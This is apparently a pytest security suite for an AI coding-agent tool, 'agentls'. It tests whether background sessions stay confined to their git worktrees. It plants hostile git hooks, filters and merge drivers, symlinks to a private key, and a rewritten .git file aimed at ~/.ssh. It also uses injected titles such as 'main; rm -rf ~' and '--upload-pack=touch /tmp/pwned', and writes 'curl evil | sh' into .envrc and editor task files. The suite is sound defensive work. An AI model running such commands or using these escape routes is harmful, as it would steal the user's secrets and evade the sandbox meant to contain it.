"""Background sessions against a hostile repository and a hostile model: programs a repository's
git config names (hooks, fsmonitor, filters, textconv, an external diff, a merge driver, a signing
program), a nested repository the session makes in its worktree (its config would run outside the
sandbox through agentls's own git), links out of the worktree, a prompt made to be an option or a
path, tampered records naming another tree, and the sandbox of a session's bash in its worktree
(the user's tree, the shared .git, agentls's data folder)."""

from __future__ import annotations

import json
import os
import re
import subprocess
from pathlib import Path

import pytest

from agentls.config import Settings
from agentls.session import background as bg
from agentls.session import background_review as review
from agentls.workspace import worktree as wt
from tests.security.conftest import SecurityFigures
from tests.security.sandbox_support import context, require_bwrap, run

PROGRAMS = "background: repository git programs"
NESTED = "background: nested repository in a worktree"
TAMPERED = "background: tampered record"
NAMES = "background: hostile title"
LINKS = "background: links out of a worktree"
SANDBOX = "background: sandbox escape from a worktree"
PROTECTED_MERGE = "background: protected files merged"

GIT = ("git", "-c", "user.name=Test", "-c", "user.email=test@example.com")


def git(cwd: Path, *args: str) -> str:
    return subprocess.run([*GIT, *args], cwd=cwd, capture_output=True, text=True, check=True).stdout


@pytest.fixture(autouse=True)
def homes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AGENTLS_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(tmp_path / "gitconfig"))
    (tmp_path / "gitconfig").write_text("[user]\n\tname = Test\n\temail = test@example.com\n")


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = (tmp_path / "repo").resolve()
    root.mkdir()
    git(root, "init", "--quiet", "-b", "main")
    (root / "a.txt").write_text("one\n")
    (root / ".gitattributes").write_text("*.txt filter=evil diff=evil merge=evil\n")
    git(root, "add", ".")
    git(root, "commit", "--quiet", "-m", "first")
    return root


def marker_program(marks: Path, name: str) -> str:
    """A shell command that leaves a file named name in marks and then passes its input on."""
    return f"touch {marks / name}; cat"


def plant_programs(repo: Path, marks: Path) -> None:
    """What a hostile repository's .git could hold: every program git would run for agentls's
    commands (the checkout of the worktree, its status and diff, the commit, the merge)."""
    marks.mkdir(exist_ok=True)
    for key, name in [
        ("core.fsmonitor", "fsmonitor"),
        ("filter.evil.clean", "clean"),
        ("filter.evil.smudge", "smudge"),
        ("diff.evil.textconv", "textconv"),
        ("diff.external", "external"),
    ]:
        git(repo, "config", key, marker_program(marks, name))
    git(repo, "config", "filter.evil.required", "true")
    hooks = repo / ".git" / "hooks"
    for hook in (
        "post-checkout",
        "reference-transaction",
        "pre-commit",
        "commit-msg",
        "post-commit",
        "pre-merge-commit",
        "post-merge",
        "post-rewrite",
    ):
        (hooks / hook).write_text(f"#!/bin/sh\ntouch {marks / hook}\n")
        (hooks / hook).chmod(0o755)


def test_no_program_of_the_repositorys_config_runs_for_a_background_session(
    repo: Path, tmp_path: Path, security_figures: SecurityFigures
) -> None:
    marks = tmp_path / "marks"
    plant_programs(repo, marks)
    ran: dict[str, list[str]] = {}

    def step(name: str) -> None:  # what ran since the last step
        ran[name] = sorted(os.listdir(marks))
        for path in marks.iterdir():
            path.unlink()

    tree = wt.create(repo, "change the file")
    step("create")
    (tree.path / "a.txt").write_text("one\ntwo\n")
    (tree.path / "b.txt").write_text("new\n")
    assert [c.path for c in wt.changed_files(tree.path, tree.base)] == ["a.txt", "b.txt"]
    assert "+two" in wt.diff(tree.path, tree.base)
    assert wt.uncommitted(tree.path)
    step("status and diff")
    wt.apply_files(tree.path, tree.base, repo, ["b.txt"])
    step("apply")
    git(repo, "rm", "--quiet", "--cached", "b.txt")
    (repo / "b.txt").unlink()
    step("the test's own git")
    assert wt.commit_all(tree.path, "the session's work")
    step("commit")
    wt.merge(repo, tree.branch)
    step("merge")
    assert (repo / "a.txt").read_text() == "one\ntwo\n"
    wt.remove(repo, tree.path, tree.branch)
    step("remove")
    del ran["the test's own git"]
    for name, programs in ran.items():
        with security_figures.attempt(PROGRAMS):
            assert programs == [], f"{name} ran {programs}"


def test_a_merge_driver_or_signing_program_of_the_repository_is_refused(
    repo: Path, tmp_path: Path, security_figures: SecurityFigures
) -> None:
    marks = tmp_path / "marks"
    marks.mkdir()
    tree = wt.create(repo, "conflict")
    (tree.path / "a.txt").write_text("theirs\n")
    assert wt.commit_all(tree.path, "theirs")
    git(repo, "config", "merge.evil.driver", f"touch {marks / 'merge'}; false")
    with security_figures.attempt(PROGRAMS), pytest.raises(wt.WorktreeError, match="merge.evil"):
        wt.merge(repo, tree.branch)
    with security_figures.attempt(PROGRAMS), pytest.raises(wt.WorktreeError, match="merge.evil"):
        wt.apply_files(tree.path, tree.base, repo, ["a.txt"])
    git(repo, "config", "--unset", "merge.evil.driver")
    git(repo, "config", "gpg.program", str(marks / "sign"))
    git(repo, "config", "commit.gpgSign", "true")
    with security_figures.attempt(PROGRAMS), pytest.raises(wt.WorktreeError, match="gpg.program"):
        wt.merge(repo, tree.branch)
    (tree.path / "c.txt").write_text("more\n")
    with security_figures.attempt(PROGRAMS):
        assert wt.commit_all(tree.path, "more")  # agentls's own commit is not signed
        assert os.listdir(marks) == []
    assert (repo / "a.txt").read_text() == "one\n"


def test_a_nested_repository_the_session_makes_runs_nothing_and_is_left_out(
    repo: Path, tmp_path: Path, security_figures: SecurityFigures
) -> None:
    marks = tmp_path / "marks"
    marks.mkdir()
    tree = wt.create(repo, "nest")
    # What a sandboxed command can do in its worktree: a repository of its own whose config
    # names programs, committed once so that git treats it as a submodule later.
    nested = tree.path / "vendor"
    nested.mkdir()
    git(nested, "init", "--quiet")
    git(nested, "config", "core.fsmonitor", marker_program(marks, "fsmonitor"))
    git(nested, "config", "filter.own.clean", marker_program(marks, "clean"))
    (nested / ".gitattributes").write_text("* filter=own\n")
    (nested / "f").write_text("x\n")
    git(nested, "add", ".")
    git(nested, "commit", "--quiet", "-m", "nested")
    (tree.path / "a.txt").write_text("changed\n")
    for path in marks.iterdir():
        path.unlink()
    for _ in range(2):  # untracked, then again after a change inside it
        with security_figures.attempt(NESTED):
            changed = [c.path for c in wt.changed_files(tree.path, tree.base)]
            assert changed == ["a.txt"]
            assert os.listdir(marks) == []
        (nested / "f").write_text("changed inside\n")
    with security_figures.attempt(NESTED):
        assert wt.commit_all(tree.path, "work")
        assert git(tree.path, "ls-files", "-s", "vendor") == ""  # not brought in
        assert wt.uncommitted(tree.path) == ["?? vendor/"]
        assert os.listdir(marks) == []
    # A submodule already in the branch (a gitlink): its repository is not run either.
    (nested / "f").write_text("again\n")
    subprocess.run(
        [
            *GIT,
            "update-index",
            "--add",
            "--cacheinfo",
            f"160000,{git(nested, 'rev-parse', 'HEAD').strip()},vendor",
        ],
        cwd=tree.path,
        check=True,
    )
    git(tree.path, "commit", "--quiet", "--no-verify", "-m", "gitlink")
    for path in marks.iterdir():
        path.unlink()
    with security_figures.attempt(NESTED):
        wt.changed_files(tree.path, tree.base)
        wt.uncommitted(tree.path)
        (tree.path / "a.txt").write_text("changed twice\n")
        assert wt.commit_all(tree.path, "more")
        assert os.listdir(marks) == []


def test_a_link_out_of_the_worktree_is_never_read_as_its_target(
    repo: Path, tmp_path: Path, security_figures: SecurityFigures
) -> None:
    secret = tmp_path / "id_rsa"
    secret.write_text("PRIVATE KEY\n")
    (repo / "keys").mkdir()
    (repo / "keys" / "id_rsa").write_text("placeholder\n")
    git(repo, "add", ".")
    git(repo, "commit", "--quiet", "-m", "keys")
    tree = wt.create(repo, "links")
    (tree.path / "notes.txt").symlink_to(secret)
    # A folder of the base replaced by a link: its file now "is" the secret.
    (tree.path / "keys" / "id_rsa").unlink()
    (tree.path / "keys").rmdir()
    (tree.path / "keys").symlink_to(tmp_path)
    record = bg.BackgroundRecord(
        session_id="links",
        repo_root=str(repo),
        worktree=str(tree.path),
        branch=tree.branch,
        base=tree.base,
        prompt="links",
        log=str(tmp_path / "links.log"),
    )
    files = {f.path: f for f in review.branch_files(record)}
    assert set(files) == {"notes.txt", "keys", "keys/id_rsa"}
    for path in files:
        with security_figures.attempt(LINKS):
            assert files[path].binary, path
            assert "PRIVATE KEY" not in f"{files[path].base}{files[path].branch}"


@pytest.mark.parametrize(
    "title",
    [
        "--upload-pack=touch /tmp/pwned",
        "-D main",
        "../../../../etc/passwd",
        "refs/heads/main",
        "HEAD",
        "x.lock",
        "@{-1}",
        "..",
        "main; rm -rf ~",
        "ünïcödé ✓ \u202e",
        "-" * 200,
    ],
)
def test_a_hostile_title_makes_a_plain_branch_in_the_worktrees_folder(
    title: str, repo: Path, security_figures: SecurityFigures
) -> None:
    with security_figures.attempt(NAMES):
        tree = wt.create(repo, title)
        folder = repo / ".git" / "agentls-worktrees"
        assert tree.path.parent == folder.resolve()
        assert re.fullmatch(r"agentls/[a-z0-9]+(-[a-z0-9]+)*", tree.branch)
        assert git(repo, "rev-parse", "--abbrev-ref", "main").strip() == "main"
        heads = git(repo, "for-each-ref", "--format=%(refname)").split()
        assert sorted(heads) == sorted(["refs/heads/main", f"refs/heads/{tree.branch}"])


def test_a_branch_name_clash_git_would_refuse_is_said(
    repo: Path, security_figures: SecurityFigures
) -> None:
    git(repo, "branch", "agentls")  # refs/heads/agentls: no agentls/<slug> can exist beside it
    with security_figures.attempt(NAMES), pytest.raises(wt.WorktreeError, match="agentls"):
        wt.create(repo, "clash")
    assert git(repo, "worktree", "list").count("\n") == 1


def write_record(tmp_path: Path, **fields: str) -> bg.BackgroundRecord:
    """A record as an attacker with write access to the data folder would leave it."""
    data = {
        "session_id": "s1",
        "repo_root": "",
        "worktree": "",
        "branch": "agentls/task",
        "base": "0" * 40,
        "prompt": "task",
        "pid": 0,
        "started_at": 1,
        "log": str(bg.records_dir() / "s1.log"),
        "in_process": False,
    }
    data.update(fields)
    folder = bg.records_dir()
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{data['session_id']}.json").write_text(json.dumps(data))
    return bg.BackgroundRecord(**data)  # type: ignore[arg-type]


def test_a_tampered_record_cannot_delete_or_commit_outside_its_worktree(
    repo: Path, tmp_path: Path, security_figures: SecurityFigures
) -> None:
    tree = wt.create(repo, "task")
    git(repo, "switch", "--quiet", "-c", "work")  # main is not checked out: git would delete it
    other = tmp_path / "other"
    other.mkdir()
    git(other, "init", "--quiet", "-b", "main")
    (other / "keep.txt").write_text("precious, not committed\n")

    def intact() -> None:
        assert tree.path.is_dir()
        assert (other / "keep.txt").read_text() == "precious, not committed\n"
        assert git(other, "status", "--porcelain") == "?? keep.txt\n"
        assert git(repo, "branch", "--list", "main").strip() == "main"
        assert not (tmp_path / "out").exists()

    removals = [
        dict(worktree=str(repo), branch=tree.branch),  # the user's own tree
        dict(worktree=str(other), branch=tree.branch),  # another repository
        dict(worktree=str(tree.path), branch="main"),  # the user's branch
        dict(worktree=str(tmp_path / "gone"), branch="main"),
    ]
    for fields in removals:
        record = write_record(tmp_path, repo_root=str(repo), base=tree.base, **fields)
        with security_figures.attempt(TAMPERED):
            with pytest.raises(bg.BackgroundError):
                bg.remove(record, force=True)
            intact()
    merges = [
        dict(worktree=str(other), branch=tree.branch),  # its files committed there
        dict(worktree=str(tree.path), branch="main"),
    ]
    for fields in merges:
        record = write_record(tmp_path, repo_root=str(repo), base=tree.base, **fields)
        with security_figures.attempt(TAMPERED):
            with pytest.raises(bg.BackgroundError):
                bg.merge(record)
            intact()
            assert git(repo, "rev-parse", "HEAD") == git(repo, "rev-parse", "main")
    for fields in (dict(worktree=str(other)), dict(worktree=str(repo))):
        record = write_record(tmp_path, repo_root=str(repo), base=tree.base, **fields)
        with security_figures.attempt(TAMPERED):
            with pytest.raises(bg.BackgroundError, match="is not a worktree"):
                bg.resume(record, Settings(), "go on")  # the agent run in that folder
            assert record.pid == 0 and not Path(record.log).exists()


def test_a_tampered_base_is_no_option_to_git(
    repo: Path, tmp_path: Path, security_figures: SecurityFigures
) -> None:
    tree = wt.create(repo, "task")
    target = tmp_path / "written"
    for base in (f"--output={target}", "-R", "HEAD --output=x"):
        record = write_record(tmp_path, repo_root=str(repo), worktree=str(tree.path), base=base)
        with security_figures.attempt(TAMPERED):
            with pytest.raises(bg.BackgroundError):
                review.branch_files(record)
            with pytest.raises(bg.BackgroundError):
                bg.apply(record, ["a.txt"])
            assert bg.status(record).changed is None
            assert not target.exists()


def test_a_tampered_log_path_is_neither_written_nor_deleted(
    repo: Path, tmp_path: Path, security_figures: SecurityFigures
) -> None:
    tree = wt.create(repo, "task")
    victim = tmp_path / "victim.txt"
    victim.write_text("the user's file\n")
    write_record(
        tmp_path,
        repo_root=str(repo),
        worktree=str(tree.path),
        branch=tree.branch,
        base=tree.base,
        log=str(victim),
    )
    with security_figures.attempt(TAMPERED):
        for record in bg.load_all():  # what `agentls background remove` would forget
            bg.forget(record)
        assert victim.read_text() == "the user's file\n"
        with pytest.raises(KeyError):
            bg.find("s1")
    write_record(tmp_path, session_id="../../escape", repo_root=str(repo))
    with security_figures.attempt(TAMPERED):
        assert all(r.session_id != "../../escape" for r in bg.load_all())


async def test_a_background_sessions_bash_stays_in_its_worktree(
    repo: Path, tmp_path: Path, security_figures: SecurityFigures
) -> None:
    require_bwrap()
    tree = wt.create(repo, "confined")
    common = repo / ".git"
    data = bg.records_dir()
    data.mkdir(parents=True)
    (data / "s1.json").write_text("{}")
    ctx = context(tree.path)
    targets = {
        "the user's tree": repo / "a.txt",
        "the shared config": common / "config",
        "the shared hooks": common / "hooks" / "pre-commit",
        "the worktree's git dir": common / "worktrees" / tree.slug / "HEAD",
        "the worktree's .git file": tree.path / ".git",
        "the records": data / "s1.json",
    }
    before = {name: p.read_bytes() if p.exists() else None for name, p in targets.items()}
    for name, path in targets.items():
        result = await run(ctx, f"echo hostile >> {path}; printf x > {path}")
        with security_figures.attempt(SANDBOX):
            after = path.read_bytes() if path.exists() else None
            assert after == before[name], f"{name} written: {result.output}"
    listed = await run(ctx, f"ls {data} 2>&1; cat {data / 's1.json'} 2>&1")
    with security_figures.attempt(SANDBOX):
        assert "s1.json" not in listed.output.replace(str(data / "s1.json"), "")
    done = await run(ctx, "echo fine > mine.txt && cat mine.txt")
    assert "fine" in done.output and (tree.path / "mine.txt").exists()


SETUP = "background: setup command from the repository"


async def test_the_repositorys_config_cannot_run_a_setup_command_unconfirmed(
    repo: Path, tmp_path: Path, security_figures: SecurityFigures
) -> None:
    """backgroundSetup runs a program in every new worktree: a cloned repository's committed
    config naming one (and a worktree folder of its choosing) is ignored until you trust it, and
    so is a change to a config you trusted."""
    from agentls.config import load_settings
    from agentls.trust import TrustStore

    marker = tmp_path / "setup-ran"
    elsewhere = tmp_path / "elsewhere"
    hostile = {"backgroundSetup": f"touch {marker}", "backgroundWorktreeFolder": str(elsewhere)}
    config = repo / ".agentls" / "config.json"
    config.parent.mkdir()
    config.write_text(json.dumps(hostile))
    git(repo, "add", ".")
    git(repo, "commit", "--quiet", "-m", "setup")
    started = await bg.start(repo, "untrusted", load_settings(repo), lambda record: 0)
    with security_figures.attempt(SETUP):
        assert not marker.exists() and not elsewhere.exists()
        assert Path(started.record.worktree).parent == (repo / ".git" / "agentls-worktrees")

    TrustStore().trust(config, b'{"maxSteps": 5}')  # what you confirmed: no setup
    config.write_text(json.dumps(hostile))
    await bg.start(repo, "changed since", load_settings(repo), lambda record: 0)
    with security_figures.attempt(SETUP):
        assert not marker.exists() and not elsewhere.exists()


def test_a_worktree_whose_git_file_names_the_sessions_own_git_dir_is_refused(
    repo: Path, tmp_path: Path, security_figures: SecurityFigures
) -> None:
    """A `.git` file rewritten (a file tool answered yes) to name a git directory the session
    made, whose `core.worktree` is your home: agentls's git, outside the sandbox, would copy
    your files into objects the session reads."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("PRIVATE KEY\n")
    tree = wt.create(repo, "hijack")
    evil = tree.path / "evil"
    git(tree.path, "clone", "--quiet", "--bare", str(repo), str(evil))
    git(evil, "config", "core.bare", "false")
    git(evil, "config", "core.worktree", str(home))
    (tree.path / ".git").write_text("gitdir: evil\n")
    key = git(home, "hash-object", "--no-filters", ".ssh/id_rsa").strip()
    with security_figures.attempt(TAMPERED):
        with pytest.raises(wt.WorktreeError, match="not a background session's worktree"):
            wt.changed_files(tree.path, tree.base)
        with pytest.raises(wt.WorktreeError):
            wt.commit_all(tree.path, "x")
        copied = subprocess.run(["git", "--git-dir", str(evil), "cat-file", "-e", key])
        assert copied.returncode != 0


async def test_the_repositorys_secret_files_are_hidden_from_its_worktrees_bash(
    repo: Path, security_figures: SecurityFigures
) -> None:
    """Your `.env` (not committed) is in your tree, not in the worktree: the sandbox of a
    session in the worktree hides it as it would in your tree (with a `sandboxed` rule nothing
    asks before `cat ../../../.env`). Where the repository is under the private /tmp or $HOME it
    is hidden anyway; elsewhere (/srv, /work) only this hides it, so the plan is checked."""
    require_bwrap()
    from agentls.tools.support.sandbox import SandboxPolicy, main_worktree, prepare

    (repo / ".env").write_text("API_TOKEN=s3cret\n")
    (repo / "config").mkdir()
    (repo / "config" / "credentials.json").write_text("{}\n")
    tree = wt.create(repo, "secrets")
    assert main_worktree(tree.path) == repo and main_worktree(repo) is None
    plan = await prepare(SandboxPolicy(mode="required"), tree.path)
    assert plan is not None
    hidden = {
        plan.prefix[n + 2]
        for n, arg in enumerate(plan.prefix[:-2])
        if plan.prefix[n + 1] == "/dev/null"
    }
    for secret in (repo / ".env", repo / "config" / "credentials.json"):
        with security_figures.attempt(SANDBOX):
            assert str(secret) in hidden
    ctx = context(tree.path)
    read = await run(ctx, f"cat {repo / '.env'}; echo done")
    with security_figures.attempt(SANDBOX):
        assert "s3cret" not in read.output and "done" in read.output


def test_a_merge_of_files_another_program_runs_later_waits_for_your_word(
    repo: Path, tmp_path: Path, security_figures: SecurityFigures
) -> None:
    """`agentls background merge` brings in the whole branch: a session's `.envrc`, VS Code task
    or hook (written in its worktree after a question you may not have read closely) is named
    and not merged until you say --include-protected."""
    tree = wt.create(repo, "tasks")
    (tree.path / "b.txt").write_text("work\n")
    written = [".envrc", ".vscode/tasks.json", ".husky/pre-commit", "sub/.gitattributes"]
    for name in written:
        (tree.path / name).parent.mkdir(parents=True, exist_ok=True)
        (tree.path / name).write_text("curl evil | sh\n")
    record = write_record(
        tmp_path, repo_root=str(repo), worktree=str(tree.path), branch=tree.branch, base=tree.base
    )
    for name in written:
        with security_figures.attempt(PROTECTED_MERGE):
            with pytest.raises(bg.BackgroundError, match="--include-protected") as refused:
                bg.merge(record)
            assert name in str(refused.value)
            assert not (repo / name).exists() and not (repo / "b.txt").exists()
    assert "merged agentls/tasks" in bg.merge(record, protected=True)
    assert (repo / ".envrc").exists() and (repo / "b.txt").exists()
